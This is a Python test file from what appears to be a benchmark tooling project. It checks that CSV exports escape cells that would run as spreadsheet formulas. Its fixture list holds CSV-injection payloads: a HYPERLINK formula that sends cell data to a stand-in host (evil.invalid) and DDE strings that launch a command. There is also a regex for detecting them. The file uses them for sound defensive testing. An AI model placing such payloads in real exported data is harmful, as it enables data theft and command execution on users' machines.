"""Whoever writes what is opened in a spreadsheet."""

import csv
import re
import sys
from io import StringIO
from pathlib import Path

import polars as pl
import pytest

from flows.cli.main import main
from flows.display.frame import print_csv
from tasks.publishing.downloads import is_current
from tasks.publishing.drb2 import TABLES, TaskInfo, render_table
from tasks.publishing.site import build_site
from tasks.spreadsheets import escape_formula, format_csv, unescape_formula
from tasks.warehouse.reader import open_for_reading
from tasks.warehouse.store import open_warehouse
from tests.tasks.annotation.sheets import filled, read_back, sheet_of, subject
from tests.tasks.scored_articles import COVERAGE, TABLES_OF_SCORES, articles, scored

FORMULAS = (
    '=HYPERLINK("https://evil.invalid?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "'=1", "''=1", "\ufeff=1", "＝1", "＋1", "－1", "＠1",
    "-", "=1,=2",
)  # fmt: skip
NUMBERS = ("-5", "+5", "-0.25", "-1,000", "-5%", "-1.5e-3")
AGENT = FORMULAS[0]
RUNS = re.compile(r"\s*[=+\-@＝＋－＠](?![\d.]+$)")


def check_cells(table: str) -> int:
    """How many cells would have run; none does."""
    cells = [cell for row in csv.reader(StringIO(table, newline="")) for cell in row]
    assert [cell for cell in cells if RUNS.match(cell)] == []
    return sum(unescape_formula(cell) != cell for cell in cells)


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formulas") / "w.duckdb"
    with open_warehouse(path) as opened:
        articles(opened, ("@c", "d"))
        scored(opened, {COVERAGE: {AGENT: (0.5, 0.2), "other": (0.1, 0.3)}})
    return path


@pytest.mark.parametrize(
    "arguments",
    [*TABLES_OF_SCORES, ("sql", "SELECT agent, '=1' AS \"@b\" FROM scores")],
    ids=lambda given: given[0],
)
def test_no_cell_of_a_command_runs(
    arguments: tuple[str, ...],
    warehouse: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """No cell or heading of a command's CSV runs as a formula in a spreadsheet."""
    whole = ["evergreen", *arguments, "--format", "csv", "--warehouse", str(warehouse)]
    monkeypatch.setattr(sys, "argv", whole)
    with pytest.raises(SystemExit):
        main()
    assert check_cells(capsys.readouterr().out)


def test_no_cell_of_a_site_runs(warehouse: Path, tmp_path: Path) -> None:
    """No cell of a CSV that the site offers runs as a formula; the site stays up to date."""
    with open_for_reading(warehouse) as source:
        build_site(source, "e", tmp_path / "site")
        tables = [*(tmp_path / "site").rglob("*.csv")]
        for table in tables:
            assert check_cells(table.read_text("utf-8"))
        assert tables
        assert is_current(source, "e", tmp_path / "site")


def test_no_cell_of_an_exported_benchmark_runs() -> None:
    """No cell of an exported table of DeepResearch Bench II runs as a formula."""
    tasks = {7: TaskInfo(language="@de", theme="=theme")}
    table = render_table("total", {(AGENT, 7): dict.fromkeys(TABLES, 0.5)}, tasks)
    assert check_cells(table) == 3


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_sheet_runs(formula: str, tmp_path: Path) -> None:
    """No cell of a sheet for annotators runs as a formula, and the import reads what it was."""
    sheet = sheet_of(subject("a", "x", formula))
    path = filled(sheet, tmp_path / "s.csv", {sheet.items[0].item_id: ("tie", formula)})
    assert check_cells(path.read_text("utf-8-sig"))
    assert [answer.reason for answer in read_back(sheet, path)] == [formula]


def test_every_frame_is_written_as_every_cell_is() -> None:
    """Tables escape the same cells, whatever writes them: formulas, and no number."""
    texts = [*FORMULAS, *NUMBERS, "word", "a=b", ""]
    frame = pl.DataFrame({"text": texts, "kind": pl.Series(texts, dtype=pl.Categorical)})
    rows = [*csv.reader(StringIO(format_csv(frame), newline=""))][1:]
    assert rows == [[escape_formula(text)] * 2 for text in texts]
    assert [escape_formula(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [escape_formula(text) for text in NUMBERS] == list(NUMBERS)
    assert [unescape_formula(escape_formula(text)) for text in texts] == texts


def test_a_table_on_a_terminal_does_not_act() -> None:
    """CSV on a terminal shows control characters by their code points; in a file it has them."""

    class Terminal(StringIO):
        def isatty(self) -> bool:
            return True

    frame = pl.DataFrame({"a": ["\x1b[31m"]})
    for to, shown in ((Terminal(), "a\n⟨U+001B⟩[31m\n"), (StringIO(), "a\n\x1b[31m\n")):
        print_csv(frame, to)
        assert to.getvalue() == shown


def test_lists_and_structs_are_json() -> None:
    frame = pl.DataFrame({"l": [["=1", "ä"], None], "s": [{"a": 1}, {"a": 2}]})
    assert format_csv(frame) == 'l,s\n"[""=1"", ""ä""]","{""a"": 1}"\n,"{""a"": 2}"\n'
